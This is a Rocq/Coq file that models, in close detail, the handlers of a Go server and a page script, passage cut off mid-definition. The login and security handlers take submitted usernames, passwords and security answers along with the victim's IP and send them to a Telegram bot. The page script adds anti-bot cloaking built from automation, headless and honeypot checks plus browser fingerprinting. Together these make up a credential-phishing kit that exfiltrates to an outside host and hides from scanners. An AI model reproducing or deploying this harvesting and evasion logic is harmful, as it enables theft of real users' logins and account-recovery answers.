(** * The relay handlers of server.go and the client-side classifier

    A shallow embedding of the three HTTP handlers of [server.go]
    ([loginHandler], [securityHandler], [logBotActivityHandler], with
    [sendTelegramMessage]) and of the scoring script of the page
    ([detectBot] and the listeners it installs, [generateFingerprint],
    the submit listeners and the periodic loop).

    The handlers are written in a state monad over the observable part of
    one HTTP exchange: the response writer, the log, and the outbound
    calls made through [http.PostForm].  What the Go standard library
    computes from the bytes of a request (form parsing, JSON decoding,
    time formatting) is an interface, [GoLib]; what the outside world
    answers (the environment variables, the clock, the messaging API) is
    a [World]. *)

From stdpp Require Import gmap strings list pretty.
From Stdlib Require Import ZArith Lia Permutation Ascii String.

Open Scope string_scope.
Open Scope Z_scope.

(** ** Strings the way the Go code uses them *)

Module GoStrings.

(** [strings.Split(s, sep)] for a separator of one byte. *)
Fixpoint Split (s : string) (sep : ascii) : list string :=
  match s with
  | EmptyString => [ EmptyString ]
  | String c rest =>
      if Ascii.eqb c sep then EmptyString :: Split rest sep
      else match Split rest sep with
           | field :: fields => String c field :: fields
           | [] => [ String c EmptyString ]
           end
  end.

(** [xs[0]]; the default stands for the panic of Go on an empty slice,
    which [Split_not_nil] rules out for the slices indexed here. *)
Definition index0 (xs : list string) : string := hd EmptyString xs.

Definition comma : ascii := ascii_of_nat 44.
Definition colon : ascii := ascii_of_nat 58.
Definition newline : string := String (ascii_of_nat 10) EmptyString.
Definition dquote : string := String (ascii_of_nat 34) EmptyString.

(** A JSON string literal whose content needs no escaping. *)
Definition quoted (s : string) : string := dquote ++ s ++ dquote.

Definition nonempty (s : string) : bool := negb (String.eqb s EmptyString).

End GoStrings.
Import GoStrings.

(** ** net/http: requests, the response writer, the exchange *)

Definition StatusOK : Z := 200.
Definition StatusSeeOther : Z := 303.
Definition StatusBadRequest : Z := 400.
Definition StatusMethodNotAllowed : Z := 405.
Definition StatusUnsupportedMediaType : Z := 415.
Definition StatusInternalServerError : Z := 500.

(** [url.Values], also the type of [r.Form]. *)
Abbreviation Values := (gmap string (list string)).

Definition Values_Add (key value : string) (v : Values) : Values :=
  <[ key := (default [] (v !! key) ++ [ value ])%list ]> v.

(** [v.Get(key)]: the first value of the key, the empty string without one. *)
Definition Values_Get (v : Values) (key : string) : string :=
  match v !! key with
  | Some (first :: _) => first
  | _ => EmptyString
  end.

Record Request := {
  Method : string;
  URL : string;
  Header : gmap string string;     (* canonical key, first value *)
  RemoteAddr : string;
  Body : option string             (* [None]: reading the body fails *)
}.

(** [r.Header.Get(key)] *)
Definition Header_Get (r : Request) (key : string) : string :=
  default EmptyString (Header r !! key).

(** One instant; how it prints is the library's business. *)
Record Time := { unixNano : Z; zoneOffset : Z }.

Record LoginRequest := {
  Username : string;
  Password : string;
  SecurityAnswers : list string
}.

Record BotActivity := {
  Score : Z;
  Fingerprint : string;
  Timestamp : Time;
  IP : string
}.

(** What the handlers take from the standard library.  A decoder returns
    the decoded value or, on the right, the text of its error. *)
Class GoLib := {
  ParseForm : Request -> option Values;
  Unmarshal_LoginRequest : string -> LoginRequest + string;
  Unmarshal_map : string -> gmap string string + string;
  Unmarshal_BotActivity : string -> BotActivity + string;
  Marshal_string : string -> string;
  Format_RFC3339 : Time -> string
}.

(** The answer of the messaging API to one [http.PostForm]. *)
Inductive PostResult :=
| PostFails (err : string)
| PostResponds (StatusCode : Z) (body : string).

Record World := {
  Getenv : string -> string;
  Now : Time;
  PostForm : string -> Values -> PostResult
}.

(** The observable state of one exchange. *)
Record Exchange := {
  w_header : gmap string string;
  w_status : option Z;
  w_body : string;
  logged : list string;
  posted : list (string * Values)
}.

Definition fresh : Exchange :=
  {| w_header := ∅; w_status := None; w_body := EmptyString;
     logged := []; posted := [] |}.

Definition Handler (A : Type) : Type := Exchange -> A * Exchange.

#[export] Instance Handler_ret : MRet Handler := fun A a x => (a, x).
#[export] Instance Handler_bind : MBind Handler :=
  fun A B k m x => let (a, x') := m x in k a x'.

Definition run (h : Handler unit) : Exchange := snd (h fresh).

Definition Header_Set (key value : string) : Handler unit := fun x =>
  (tt, {| w_header := <[ key := value ]> (w_header x); w_status := w_status x;
          w_body := w_body x; logged := logged x; posted := posted x |}).

(** Only the first [WriteHeader] of an exchange counts. *)
Definition WriteHeader (code : Z) : Handler unit := fun x =>
  (tt, {| w_header := w_header x;
          w_status := match w_status x with Some c => Some c | None => Some code end;
          w_body := w_body x; logged := logged x; posted := posted x |}).

(** [w.Write]: an unset status becomes 200. *)
Definition Write (data : string) : Handler unit := fun x =>
  (tt, {| w_header := w_header x;
          w_status := match w_status x with Some c => Some c | None => Some StatusOK end;
          w_body := w_body x ++ data; logged := logged x; posted := posted x |}).

Definition log_Print (line : string) : Handler unit := fun x =>
  (tt, {| w_header := w_header x; w_status := w_status x; w_body := w_body x;
          logged := (logged x ++ [ line ])%list; posted := posted x |}).

Definition do_PostForm (W : World) (url : string) (form : Values) : Handler PostResult :=
  fun x =>
  (PostForm W url form,
   {| w_header := w_header x; w_status := w_status x; w_body := w_body x;
      logged := logged x; posted := (posted x ++ [ (url, form) ])%list |}).

(** [http.Error] *)
Definition http_Error (error : string) (code : Z) : Handler unit :=
  Header_Set "Content-Type" "text/plain; charset=utf-8" ;;
  Header_Set "X-Content-Type-Options" "nosniff" ;;
  WriteHeader code ;;
  Write (error ++ newline).

(** [http.Redirect] to a rooted path, for a request that is neither GET
    nor HEAD: the Location header and the status, no body. *)
Definition http_Redirect (url : string) (code : Z) : Handler unit :=
  Header_Set "Location" url ;;
  WriteHeader code.

(** ** server.go *)

Section Server.

Context `{Lib : GoLib}.
Variable W : World.

(** The client address as each handler computes it: the first field of
    X-Forwarded-For when the header is set, the host part of
    [r.RemoteAddr] otherwise. *)
Definition clientIP (r : Request) : string :=
  let ip := RemoteAddr r in
  let forwarded := Header_Get r "X-Forwarded-For" in
  if nonempty forwarded then index0 (Split forwarded comma)
  else index0 (Split ip colon).

Definition sendTelegramMessage (text : string) : Handler (option string) :=
  let botToken := Getenv W "TELEGRAM_BOT_TOKEN" in
  let chatID := Getenv W "TELEGRAM_CHAT_ID" in
  if String.eqb botToken "" || String.eqb chatID "" then
    mret (Some "telegram credentials not set")
  else
    let apiURL := "https://api.telegram.org/bot" ++ botToken ++ "/sendMessage" in
    let form :=
      Values_Add "parse_mode" "HTML"
        (Values_Add "text" text (Values_Add "chat_id" chatID ∅)) in
    log_Print ("Sending Telegram message to URL: " ++ apiURL) ;;
    log_Print ("Message content: " ++ text) ;;
    resp ← do_PostForm W apiURL form;
    match resp with
    | PostFails err =>
        log_Print ("Telegram API request error: " ++ err) ;;
        mret (Some ("telegram API request failed: " ++ err))
    | PostResponds code body =>
        log_Print ("Telegram API response status: " ++ pretty code
                   ++ ", body: " ++ body) ;;
        if negb (code =? StatusOK) then
          mret (Some ("telegram API returned non-200 status: " ++ pretty code
                      ++ ", body: " ++ body))
        else mret None
    end.

Definition loginMessage (username password ip timestamp : string) : string :=
  "🚨 Login Attempt 🚨" ++ newline ++ newline
  ++ "Username: " ++ username ++ newline
  ++ "Password: " ++ password ++ newline
  ++ "IP: " ++ ip ++ newline
  ++ "Timestamp: " ++ timestamp.

Definition loginFailureBody : string :=
  "{" ++ quoted "status" ++ ": " ++ quoted "error" ++ ", "
  ++ quoted "message" ++ ": " ++ quoted "Failed to send Telegram message" ++ "}".

(** [json.Marshal] of the success map: the keys in sorted order. *)
Definition loginSuccessBody (username : string) : string :=
  "{" ++ quoted "message" ++ ":" ++ quoted "Login attempt processed successfully"
  ++ "," ++ quoted "status" ++ ":" ++ quoted "success"
  ++ "," ++ quoted "username" ++ ":" ++ Marshal_string username ++ "}".

Definition loginHandler (r : Request) : Handler unit :=
  Header_Set "Access-Control-Allow-Origin" "*" ;;
  Header_Set "Access-Control-Allow-Methods" "POST, OPTIONS" ;;
  Header_Set "Access-Control-Allow-Headers" "Content-Type" ;;
  if String.eqb (Method r) "OPTIONS" then
    WriteHeader StatusOK
  else if negb (String.eqb (Method r) "POST") then
    http_Error "Method not allowed" StatusMethodNotAllowed
  else if String.eqb (Header_Get r "Content-Type")
                     "application/x-www-form-urlencoded" then
    match ParseForm r with
    | None => http_Error "Error parsing form data" StatusBadRequest
    | Some form =>
        let username := Values_Get form "userId" in
        let password := Values_Get form "Passcode" in
        let ip := clientIP r in
        let timestamp := Format_RFC3339 (Now W) in
        let message := loginMessage username password ip timestamp in
        err ← sendTelegramMessage message;
        match err with
        | Some e =>
            log_Print ("Failed to send Telegram message: " ++ e) ;;
            http_Redirect "/security.html" StatusSeeOther
        | None => http_Redirect "/security.html" StatusSeeOther
        end
    end
  else
    let contentType := Header_Get r "Content-Type" in
    if negb (String.eqb contentType "application/json") then
      http_Error "Content-Type must be application/json"
                 StatusUnsupportedMediaType
    else
      match Body r with
      | None => http_Error "Error reading request body" StatusBadRequest
      | Some bodyBytes =>
          log_Print ("Raw request body: " ++ bodyBytes) ;;
          match Unmarshal_LoginRequest bodyBytes with
          | inr e =>
              log_Print ("JSON parse error: " ++ e) ;;
              http_Error ("Bad Request: Invalid JSON - " ++ e) StatusBadRequest
          | inl req =>
              if String.eqb (Username req) "" || String.eqb (Password req) "" then
                http_Error "Username and password are required" StatusBadRequest
              else
                let ip := clientIP r in
                let timestamp := Format_RFC3339 (Now W) in
                let message :=
                  loginMessage (Username req) (Password req) ip timestamp in
                log_Print ("Prepared Telegram message: " ++ message) ;;
                log_Print "Attempting to send Telegram message..." ;;
                err ← sendTelegramMessage message;
                match err with
                | Some e =>
                    log_Print ("Failed to send Telegram message: " ++ e) ;;
                    Header_Set "Content-Type" "application/json" ;;
                    WriteHeader StatusInternalServerError ;;
                    Write loginFailureBody
                | None =>
                    log_Print "Telegram message sent successfully" ;;
                    Header_Set "Content-Type" "application/json" ;;
                    WriteHeader StatusOK ;;
                    Write (loginSuccessBody (Username req))
                end
          end
      end.

Definition securityMessage (answer1 answer2 answer3 ip timestamp : string) : string :=
  "🔐 Security Answers 🔐" ++ newline ++ newline
  ++ "Answer 1: " ++ answer1 ++ newline
  ++ "Answer 2: " ++ answer2 ++ newline
  ++ "Answer 3: " ++ answer3 ++ newline
  ++ "IP: " ++ ip ++ newline
  ++ "Timestamp: " ++ timestamp.

Definition securityFailureBody : string :=
  "{" ++ quoted "status" ++ ": " ++ quoted "error" ++ ", "
  ++ quoted "message" ++ ": " ++ quoted "Failed to process security answers" ++ "}".

Definition securitySuccessBody : string :=
  "{" ++ quoted "status" ++ ": " ++ quoted "success" ++ ", "
  ++ quoted "message" ++ ": "
  ++ quoted "Security answers processed successfully" ++ "}".

(** The tail of [securityHandler], after the three answers are read. *)
Definition securityDeliver (r : Request) (answer1 answer2 answer3 : string)
  : Handler unit :=
  let ip := clientIP r in
  let timestamp := Format_RFC3339 (Now W) in
  let message := securityMessage answer1 answer2 answer3 ip timestamp in
  err ← sendTelegramMessage message;
  match err with
  | Some e =>
      log_Print ("Failed to send security answers to Telegram: " ++ e) ;;
      Header_Set "Content-Type" "application/json" ;;
      WriteHeader StatusInternalServerError ;;
      Write securityFailureBody
  | None =>
      Header_Set "Content-Type" "application/json" ;;
      WriteHeader StatusOK ;;
      Write securitySuccessBody
  end.

Definition securityHandler (r : Request) : Handler unit :=
  Header_Set "Access-Control-Allow-Origin" "*" ;;
  Header_Set "Access-Control-Allow-Methods" "POST, OPTIONS" ;;
  Header_Set "Access-Control-Allow-Headers" "Content-Type" ;;
  if String.eqb (Method r) "OPTIONS" then
    WriteHeader StatusOK
  else if negb (String.eqb (Method r) "POST") then
    http_Error "Method not allowed" StatusMethodNotAllowed
  else
    let contentType := Header_Get r "Content-Type" in
    if String.eqb contentType "application/x-www-form-urlencoded" then
      match ParseForm r with
      | None => http_Error "Error parsing form data" StatusBadRequest
      | Some form =>
          securityDeliver r (Values_Get form "answer1")
            (Values_Get form "answer2") (Values_Get form "answer3")
      end
    else if String.eqb contentType "application/json" then
      match Body r with
      | None => http_Error "Error reading request body" StatusBadRequest
      | Some bodyBytes =>
          match Unmarshal_map bodyBytes with
          | inr _ => http_Error "Invalid JSON" StatusBadRequest
          | inl data =>
              securityDeliver r (default "" (data !! "answer1"))
                (default "" (data !! "answer2")) (default "" (data !! "answer3"))
          end
      end
    else
      http_Error "Unsupported content type" StatusUnsupportedMediaType.

Definition botActivityMessage (activity : BotActivity) : string :=
  "🤖 Bot Activity Detected 🤖" ++ newline ++ newline
  ++ "Score: " ++ pretty (Score activity) ++ newline
  ++ "Fingerprint: " ++ Fingerprint activity ++ newline
  ++ "IP: " ++ IP activity ++ newline
  ++ "Timestamp: " ++ Format_RFC3339 (Timestamp activity).

Definition botActivityBody : string :=
  "{" ++ quoted "status" ++ ":" ++ quoted "success" ++ "}".

Definition logBotActivityHandler (r : Request) : Handler unit :=
  Header_Set "Access-Control-Allow-Origin" "*" ;;
  Header_Set "Access-Control-Allow-Methods" "POST, OPTIONS" ;;
  Header_Set "Access-Control-Allow-Headers" "Content-Type" ;;
  if String.eqb (Method r) "OPTIONS" then
    WriteHeader StatusOK
  else if negb (String.eqb (Method r) "POST") then
    http_Error "Method not allowed" StatusMethodNotAllowed
  else
    match Body r with
    | None => http_Error "Error reading request body" StatusBadRequest
    | Some bodyBytes =>
        match Unmarshal_BotActivity bodyBytes with
        | inr e =>
            log_Print ("JSON parse error for bot activity: " ++ e) ;;
            http_Error "Invalid JSON" StatusBadRequest
        | inl decoded =>
            let ip := clientIP r in
            let activity :=
              {| Score := Score decoded; Fingerprint := Fingerprint decoded;
                 Timestamp := Timestamp decoded; IP := ip |} in
            log_Print ("Bot activity detected: Score=" ++ pretty (Score activity)
                       ++ ", Fingerprint=" ++ Fingerprint activity
                       ++ ", IP=" ++ IP activity) ;;
            let message := botActivityMessage activity in
            err ← sendTelegramMessage message;
            match err with
            | Some e => log_Print ("Failed to send bot activity to Telegram: " ++ e)
            | None => mret tt
            end ;;
            Header_Set "Content-Type" "application/json" ;;
            WriteHeader StatusOK ;;
            Write botActivityBody
        end
    end.

End Server.

(** The routes [main] registers beside the static file server. *)
Definition routes `{Lib : GoLib} (W : World)
  : list (string * (Request -> Handler unit)) :=
  [ ("/login", loginHandler W);
    ("/security", securityHandler W);
    ("/log-bot-activity", logBotActivityHandler W) ].

(** [main] refuses to start the server unless both variables are set. *)
Definition configured (W : World) : bool :=
  nonempty (Getenv W "TELEGRAM_BOT_TOKEN") && nonempty (Getenv W "TELEGRAM_CHAT_ID").

Definition apiURL (W : World) : string :=
  "https://api.telegram.org/bot" ++ Getenv W "TELEGRAM_BOT_TOKEN" ++ "/sendMessage".

Definition telegramForm (W : World) (text : string) : Values :=
  Values_Add "parse_mode" "HTML"
    (Values_Add "text" text (Values_Add "chat_id" (Getenv W "TELEGRAM_CHAT_ID") ∅)).

(** The outbound calls one [sendTelegramMessage] makes. *)
Definition deliveries (W : World) (text : string) : list (string * Values) :=
  if configured W then [ (apiURL W, telegramForm W text) ] else [].

(** The error [sendTelegramMessage] returns for a text, and the lines it logs. *)
Definition deliveryError (W : World) (text : string) : option string :=
  fst (sendTelegramMessage W text fresh).

Definition deliveryLog (W : World) (text : string) : list string :=
  logged (snd (sendTelegramMessage W text fresh)).

(** Observations on a finished exchange. *)
Definition clientError (x : Exchange) : bool :=
  match w_status x with
  | Some c => (400 <=? c) && (c <? 500)
  | None => false
  end.

Definition errorShaped (x : Exchange) : bool :=
  match w_status x with
  | Some c => 400 <=? c
  | None => false
  end.

Definition responded (x : Exchange) : bool :=
  match w_status x with Some _ => true | None => false end.

Section Readings.

Context `{Lib : GoLib}.

(** The answers [securityHandler] reads from a request it can parse. *)
Definition parsedAnswers (r : Request) (answer1 answer2 answer3 : string) : Prop :=
  (Header_Get r "Content-Type" = "application/x-www-form-urlencoded" /\
   exists form, ParseForm r = Some form /\
     answer1 = Values_Get form "answer1" /\
     answer2 = Values_Get form "answer2" /\
     answer3 = Values_Get form "answer3") \/
  (Header_Get r "Content-Type" = "application/json" /\
   exists bodyBytes data, Body r = Some bodyBytes /\
     Unmarshal_map bodyBytes = inl data /\
     answer1 = default "" (data !! "answer1") /\
     answer2 = default "" (data !! "answer2") /\
     answer3 = default "" (data !! "answer3")).

(** The activity [logBotActivityHandler] reports: the decoded one with
    the address of the client filled in. *)
Definition received (r : Request) (decoded : BotActivity) : BotActivity :=
  {| Score := Score decoded; Fingerprint := Fingerprint decoded;
     Timestamp := Timestamp decoded; IP := clientIP r |}.

End Readings.

(** ** The scoring script of the page

    The script keeps one accumulator, [botDetectionScore], for the whole
    page.  Its closures are part of the page state here: each call of
    [checkBehaviorPatterns] declares fresh counters and installs
    listeners that capture them (a [Tracker]), and the submit listeners of
    a form are kept in the order in which they were added. *)

Module Script.

(** JavaScript values, as far as the script looks at them. *)
Inductive value :=
| undefined
| null
| boolean (b : bool)
| number (n : Z)
| text (s : string)
| object.

Definition truthy (v : value) : bool :=
  match v with
  | undefined | null => false
  | boolean b => b
  | number n => negb (n =? 0)
  | text s => nonempty s
  | object => true
  end.

(** [v === true] *)
Definition strictly_true (v : value) : bool :=
  match v with
  | boolean true => true
  | _ => false
  end.

(** [v > 0] for the values a count can take. *)
Definition positive_number (v : value) : bool :=
  match v with
  | number n => 0 <? n
  | _ => false
  end.

(** The ambient state the script reads: the navigator, the window, the
    screen, the attributes of the root element, the time zone. *)
Record Environment := {
  navigator_webdriver : value;
  attribute_webdriver : value;         (* [getAttribute]: null or a string *)
  attribute_selenium : value;
  attribute_driver : value;
  window_callPhantom : value;
  window__phantom : value;
  window_phantom : value;
  window___nightmare : value;
  window_domAutomation : value;
  window_domAutomationController : value;
  navigator_plugins_length : Z;
  navigator_languages : option (list string);
  ontouchstart_in_window : bool;
  navigator_maxTouchPoints : value;
  navigator_userAgent : string;
  screen_width : Z;
  screen_height : Z;
  window_chrome : value;
  navigator_permissions : value;
  audio_throws : bool;                 (* the [try] block raises *)
  navigator_language : string;
  screen_colorDepth : Z;
  timezoneOffset : Z;                  (* [new Date().getTimezoneOffset()] *)
  navigator_hardwareConcurrency : option N;
  navigator_deviceMemory : option N;   (* in quarters of a gigabyte *)
  window_localStorage : value;
  window_sessionStorage : value;
  window_indexedDB : value
}.

(** *** The mobile test of [checkBrowserConsistency]

    [/Android|webOS|iPhone|iPad|iPod|BlackBerry|IEMobile|Opera Mini/i]:
    one of the eight words occurs in the string, letters of either
    case. *)

Definition lower (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if (Nat.leb 65 n && Nat.leb n 90)%bool then ascii_of_nat (n + 32) else c.

Fixpoint starts_with (word s : string) : bool :=
  match word, s with
  | EmptyString, _ => true
  | String _ _, EmptyString => false
  | String a word', String b s' =>
      Ascii.eqb (lower a) (lower b) && starts_with word' s'
  end.

Fixpoint occurs (word s : string) : bool :=
  starts_with word s ||
  match s with
  | EmptyString => false
  | String _ s' => occurs word s'
  end.

Definition mobileWords : list string :=
  [ "Android"; "webOS"; "iPhone"; "iPad"; "iPod"; "BlackBerry"; "IEMobile";
    "Opera Mini" ].

Definition isMobile (userAgent : string) : bool :=
  existsb (fun word => occurs word userAgent) mobileWords.

Definition hasTouch (e : Environment) : bool :=
  ontouchstart_in_window e || positive_number (navigator_maxTouchPoints e).

(** *** The page *)

(** The variables one call of [checkBehaviorPatterns] declares. *)
Record Tracker := {
  mouseMovements : Z;
  lastMouseX : Z;
  lastMouseY : Z;
  lastInputTime : Z;
  suspiciousInputSpeed : Z
}.

Definition newTracker : Tracker :=
  {| mouseMovements := 0; lastMouseX := 0; lastMouseY := 0;
     lastInputTime := 0; suspiciousInputSpeed := 0 |}.

(** The submit listeners of a form. *)
Inductive Listener :=
| honeypotListener                     (* added by [addHoneypotFields] *)
| timingListener                       (* added by [applyTimingVariations] *)
| behaviorListener (tracker : nat).    (* added by [checkBehaviorPatterns] *)

Record Report := {
  score : Z;
  fingerprint : string;
  timestamp : string
}.

Record Page := {
  botDetectionScore : Z;
  trackers : list Tracker;
  submitListeners : list Listener;
  pendingQueries : nat;                (* permission queries not yet resolved *)
  cachedFingerprint : string;
  reports : list Report                (* bodies sent to /log-bot-activity *)
}.

Definition BOT_THRESHOLD : Z := 3.

Definition setScore (s : Z) (p : Page) : Page :=
  {| botDetectionScore := s; trackers := trackers p;
     submitListeners := submitListeners p; pendingQueries := pendingQueries p;
     cachedFingerprint := cachedFingerprint p; reports := reports p |}.

(** [if (condition) { botDetectionScore += weight; }] *)
Definition addIf (condition : bool) (weight : Z) (p : Page) : Page :=
  if condition then setScore (botDetectionScore p + weight) p else p.

Definition checkAutomationFlags (e : Environment) (p : Page) : Page :=
  let p := addIf (strictly_true (navigator_webdriver e)) 2 p in
  let p := addIf (truthy (attribute_webdriver e) || truthy (attribute_selenium e)
                  || truthy (attribute_driver e)) 2 p in
  let p := addIf (truthy (window_callPhantom e) || truthy (window__phantom e)
                  || truthy (window_phantom e)) 2 p in
  let p := addIf (truthy (window___nightmare e)) 2 p in
  addIf (truthy (window_domAutomation e)
         || truthy (window_domAutomationController e)) 2 p.

Definition noLanguages (e : Environment) : bool :=
  match navigator_languages e with
  | None => true
  | Some languages => Nat.eqb (List.length languages) 0
  end.

Definition checkBrowserConsistency (e : Environment) (p : Page) : Page :=
  let p := addIf (navigator_plugins_length e =? 0) 1 p in
  let p := addIf (noLanguages e) 1 p in
  let p := addIf (isMobile (navigator_userAgent e) && negb (hasTouch e)) 2 p in
  addIf ((screen_width e <? 2) || (screen_height e <? 2)) 2 p.

(** Declares the counters and installs the listeners; the score is not
    touched before one of the listeners runs. *)
Definition checkBehaviorPatterns (e : Environment) (p : Page) : Page :=
  {| botDetectionScore := botDetectionScore p;
     trackers := (trackers p ++ [ newTracker ])%list;
     submitListeners :=
       (submitListeners p ++ [ behaviorListener (List.length (trackers p)) ])%list;
     pendingQueries := pendingQueries p;
     cachedFingerprint := cachedFingerprint p; reports := reports p |}.

Definition checkHeadlessBrowser (e : Environment) (p : Page) : Page :=
  let p := addIf (negb (truthy (window_chrome e))) 1 p in
  let p :=
    if truthy (navigator_permissions e) then
      {| botDetectionScore := botDetectionScore p; trackers := trackers p;
         submitListeners := submitListeners p;
         pendingQueries := S (pendingQueries p);
         cachedFingerprint := cachedFingerprint p; reports := reports p |}
    else p in
  addIf (audio_throws e) 1 p.

Definition detectBot (e : Environment) (p : Page) : Page * bool :=
  let p := setScore 0 p in
  let p := checkAutomationFlags e p in
  let p := checkBrowserConsistency e p in
  let p := checkBehaviorPatterns e p in
  let p := checkHeadlessBrowser e p in
  (p, BOT_THRESHOLD <=? botDetectionScore p).

(** *** The fingerprint *)

(** [String(x)] of a count of quarters: 1 prints 0.25, 2 prints 0.5, 32 prints 8. *)
Definition quarters (q : N) : string :=
  let whole := pretty (q / 4)%N in
  match (q mod 4)%N with
  | 0%N => whole
  | 1%N => whole ++ ".25"
  | 2%N => whole ++ ".5"
  | _ => whole ++ ".75"
  end.

Definition boolean_text (b : bool) : string := if b then "true" else "false".

(** The array [components], each element as [join] prints it. *)
Definition components (e : Environment) : list string :=
  [ navigator_userAgent e;
    navigator_language e;
    pretty (screen_colorDepth e);
    pretty (timezoneOffset e);
    pretty (screen_width e) ++ "x" ++ pretty (screen_height e);
    match navigator_hardwareConcurrency e with
    | Some n => if (n =? 0)%N then "unknown" else pretty n
    | None => "unknown"
    end;
    match navigator_deviceMemory e with
    | Some q => if (q =? 0)%N then "unknown" else quarters q
    | None => "unknown"
    end;
    boolean_text (truthy (window_localStorage e));
    boolean_text (truthy (window_sessionStorage e));
    boolean_text (truthy (window_indexedDB e)) ].

(** [Array.prototype.join]: the separator before every element but the
    first. *)
Fixpoint join_from (first : bool) (separator : string) (elements : list string)
  : string :=
  match elements with
  | [] => ""
  | element :: rest =>
      (if first then "" else separator) ++ element
      ++ join_from false separator rest
  end.

Definition join (elements : list string) (separator : string) : string :=
  join_from true separator elements.

Definition generateFingerprint (e : Environment) : string :=
  join (components e) "###".

(** *** Listeners and events *)

Definition addSubmitListener (l : Listener) (p : Page) : Page :=
  {| botDetectionScore := botDetectionScore p; trackers := trackers p;
     submitListeners := (submitListeners p ++ [ l ])%list;
     pendingQueries := pendingQueries p;
     cachedFingerprint := cachedFingerprint p; reports := reports p |}.

Definition addHoneypotFields (p : Page) : Page :=
  addSubmitListener honeypotListener p.

Definition applyTimingVariations (p : Page) : Page :=
  addSubmitListener timingListener p.

Definition blank : Page :=
  {| botDetectionScore := 0; trackers := []; submitListeners := [];
     pendingQueries := 0; cachedFingerprint := ""; reports := [] |}.

(** The page once [initAntiBotProtection] has run; the interval it
    starts is the source of the [tick] events. *)
Definition initAntiBotProtection (e : Environment) : Page :=
  let p := addHoneypotFields blank in
  let p := applyTimingVariations p in
  {| botDetectionScore := botDetectionScore p; trackers := trackers p;
     submitListeners := submitListeners p; pendingQueries := pendingQueries p;
     cachedFingerprint := generateFingerprint e; reports := reports p |}.

(** What one submit event did. *)
Record Submission := {
  defaultPrevented : bool;
  verdict : option bool;               (* the result of [detectBot], if it ran *)
  scoreAtVerdict : Z;                  (* the accumulator [detectBot] compared *)
  alerted : bool;                      (* the fixed error was shown *)
  fetchScheduled : bool                (* the delayed [fetch] was set up *)
}.

Definition noSubmission : Submission :=
  {| defaultPrevented := false; verdict := None; scoreAtVerdict := 0;
     alerted := false; fetchScheduled := false |}.

(** One submit listener; [website] is the value of the element
    [document.getElementById('website')] finds. *)
Definition runListener (e : Environment) (website : string)
    (state : Page * Submission) (l : Listener) : Page * Submission :=
  let (p, s) := state in
  match l with
  | honeypotListener =>
      if truthy (text website) then
        (setScore (botDetectionScore p + 3) p,
         {| defaultPrevented := true; verdict := verdict s;
            scoreAtVerdict := scoreAtVerdict s; alerted := alerted s;
            fetchScheduled := fetchScheduled s |})
      else (p, s)
  | timingListener =>
      let (p', bot) := detectBot e p in
      (p',
       {| defaultPrevented := true; verdict := Some bot;
          scoreAtVerdict := botDetectionScore p';
          alerted := bot; fetchScheduled := negb bot |})
  | behaviorListener i =>
      match nth_error (trackers p) i with
      | Some t => (addIf (mouseMovements t <? 5) 1 p, s)
      | None => (p, s)
      end
  end.

(** The mousemove listener of one tracker. *)
Definition onMouseMove (clientX clientY : Z) (t : Tracker) : Tracker :=
  if negb (clientX =? lastMouseX t) || negb (clientY =? lastMouseY t) then
    {| mouseMovements := mouseMovements t + 1;
       lastMouseX := clientX; lastMouseY := clientY;
       lastInputTime := lastInputTime t;
       suspiciousInputSpeed := suspiciousInputSpeed t |}
  else t.

(** The input listener of one tracker: the tracker after the event and
    whether the listener adds 1 to the score. *)
Definition onInput (now : Z) (t : Tracker) : Tracker * bool :=
  let fast := (0 <? lastInputTime t) && (now - lastInputTime t <? 50) in
  let speed := if fast then suspiciousInputSpeed t + 1 else suspiciousInputSpeed t in
  ({| mouseMovements := mouseMovements t;
      lastMouseX := lastMouseX t; lastMouseY := lastMouseY t;
      lastInputTime := now; suspiciousInputSpeed := speed |},
   fast && (3 <? speed)).

Inductive Event :=
| mousemove (clientX clientY : Z)
| input (now : Z)
| submit (website : string)
| tick (now : string)
| permissionResolved (state permission : string).

Inductive Outcome :=
| quiet
| submitted (s : Submission)
| ticked (bot : bool).

Definition step (e : Environment) (p : Page) (ev : Event) : Page * Outcome :=
  match ev with
  | mousemove clientX clientY =>
      ({| botDetectionScore := botDetectionScore p;
          trackers := map (onMouseMove clientX clientY) (trackers p);
          submitListeners := submitListeners p;
          pendingQueries := pendingQueries p;
          cachedFingerprint := cachedFingerprint p; reports := reports p |},
       quiet)
  | input now =>
      let results := map (onInput now) (trackers p) in
      ({| botDetectionScore :=
            botDetectionScore p
            + Z.of_nat (List.length (List.filter snd results));
          trackers := map fst results;
          submitListeners := submitListeners p;
          pendingQueries := pendingQueries p;
          cachedFingerprint := cachedFingerprint p; reports := reports p |},
       quiet)
  | submit website =>
      (* the listeners present when the dispatch starts, in the order
         in which they were added *)
      let (p', s) :=
        fold_left (runListener e website) (submitListeners p) (p, noSubmission) in
      (p', submitted s)
  | tick now =>
      let (p', bot) := detectBot e p in
      (if bot then
         {| botDetectionScore := botDetectionScore p'; trackers := trackers p';
            submitListeners := submitListeners p';
            pendingQueries := pendingQueries p';
            cachedFingerprint := cachedFingerprint p';
            reports :=
              (reports p'
               ++ [ {| score := botDetectionScore p';
                       fingerprint := cachedFingerprint p';
                       timestamp := now |} ])%list |}
       else p',
       ticked bot)
  | permissionResolved state permission =>
      match pendingQueries p with
      | O => (p, quiet)
      | S pending =>
          let p :=
            {| botDetectionScore := botDetectionScore p; trackers := trackers p;
               submitListeners := submitListeners p; pendingQueries := pending;
               cachedFingerprint := cachedFingerprint p; reports := reports p |} in
          (addIf (String.eqb state "denied" && String.eqb permission "default") 1 p,
           quiet)
      end
  end.

(** The page after a sequence of events, and what each of them did. *)
Fixpoint play (e : Environment) (p : Page) (events : list Event)
  : Page * list Outcome :=
  match events with
  | [] => (p, [])
  | ev :: rest =>
      let (p', o) := step e p ev in
      let (p'', os) := play e p' rest in
      (p'', o :: os)
  end.

(** *** The score as the sum of the weights of the signals that fire *)

(** The five automation markers, weight 2 each. *)
Definition automationMarkers (e : Environment) : list bool :=
  [ strictly_true (navigator_webdriver e);
    truthy (attribute_webdriver e) || truthy (attribute_selenium e)
    || truthy (attribute_driver e);
    truthy (window_callPhantom e) || truthy (window__phantom e)
    || truthy (window_phantom e);
    truthy (window___nightmare e);
    truthy (window_domAutomation e) || truthy (window_domAutomationController e) ].

(** The other signals a pass can fire, each with its weight. *)
Definition otherSignals (e : Environment) : list (bool * Z) :=
  [ (navigator_plugins_length e =? 0, 1);
    (noLanguages e, 1);
    (isMobile (navigator_userAgent e) && negb (hasTouch e), 2);
    ((screen_width e <? 2) || (screen_height e <? 2), 2);
    (negb (truthy (window_chrome e)), 1);
